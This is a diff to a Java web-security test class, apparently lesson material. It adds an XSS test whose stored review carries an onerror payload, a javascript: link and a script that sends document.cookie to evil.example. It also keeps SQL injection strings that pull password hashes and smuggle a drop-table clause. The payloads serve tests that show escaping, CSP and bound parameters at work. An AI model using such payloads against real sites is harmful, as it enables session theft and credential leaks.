@@ -87,7 +87,7 @@ class WebSecurityTest {
 
     @BeforeEach
     void fill() {
-        db.sql("truncate customer, account, product, orders restart identity cascade").update();
+        db.sql("truncate customer, account, product, orders, review restart identity cascade").update();
         db.sql("insert into customer (name, email) values ('Ada', 'ada@shop.example'), ('Bob', 'bob@shop.example')").update();
         db.sql("insert into account values ('ada@shop.example', ?)")
                 .param("{bcrypt}" + new BCryptPasswordEncoder(10).encode(PASSWORD)).update();
@@ -107,6 +107,48 @@ class WebSecurityTest {
                 .map(c -> c.substring(0, c.indexOf(';'))).findFirst().orElseThrow();
     }
 
+    /** What stays of a stored review when a page is made of it; also written to target/output for the lesson. */
+    @Test
+    void aStoredScriptIsTextOnThePage() throws Exception {
+        // #region xss
+        var attack = new ReviewPage.Review("Eve<img src=x onerror=alert(1)>",
+                "javascript:alert(document.cookie)",
+                "Nice! <script>fetch('https://evil.example/?'"
+                        + " + document.cookie)</script>");
+        db.sql("insert into review (product_id, author, homepage, body)"
+                        + " values (1, :author, :homepage, :text)")
+                .paramSource(attack).update();           // stored as it is
+
+        var wrong = asAda("/products/1/reviews-wrong");
+        assertThat(wrong.body()).contains("<script>fetch", "onerror=alert",
+                "href=\"javascript:");
+
+        var right = asAda("/products/1/reviews");
+        assertThat(right.body()).contains("&lt;script&gt;fetch", "href=\"#\"")
+                .doesNotContain("<script>", "<img", "javascript:");
+        assertThat(right.headers().firstValue("Content-Security-Policy"))
+                .hasValueSatisfying(policy -> assertThat(policy)
+                        .contains("script-src 'self'"));   // the second line
+        // #endregion xss
+        Files.createDirectories(Path.of("target/output"));
+        Files.writeString(Path.of("target/output/xss.txt"),
+                "wrong\n" + item(wrong) + "\nright\n" + item(right) + "\n");
+    }
+
+    String item(HttpResponse<String> page) {
+        return page.body().replaceAll("(?s).*<ul>(.*)</ul>", "$1")
+                .replace("</a>: ", "</a>:\n    ").replace("\">", "\">\n    ").replaceAll("^", "  ");
+    }
+
+    HttpResponse<String> asAda(String path) throws Exception {
+        var page = send("GET", "/login", null);
+        String token = cookie(page, "XSRF-TOKEN").substring("XSRF-TOKEN=".length());
+        var login = send("POST", "/login", "username=ada%40shop.example&password=correct+horse+battery",
+                "Content-Type", "application/x-www-form-urlencoded", "X-XSRF-TOKEN", token,
+                "Cookie", "XSRF-TOKEN=" + token);
+        return send("GET", path, null, "Cookie", cookie(login, "JSESSIONID"));
+    }
+
     // #region injection
     static final String ATTACK =
             "%' union select 0, email, password_hash, 0 from account -- ";
@@ -114,8 +156,9 @@ class WebSecurityTest {
     @Test
     void concatenatedTextBecomesSqlAndABoundValueDoesNot() {
         assertThat(products.searchWrong(ATTACK)).extracting(Product::name)
-                .anyMatch(name -> name.startsWith("{bcrypt}"));   // the hash leaks
-        assertThat(products.search(ATTACK, "name")).isEmpty();    // a name nobody sells
+                .anyMatch(name -> name.startsWith("{bcrypt}")); // the hash leaks
+        // A name nobody sells.
+        assertThat(products.search(ATTACK, "name")).isEmpty();
         assertThatThrownBy(() -> products.search("", "price; drop table orders"))
                 .isInstanceOf(IllegalArgumentException.class);
     }
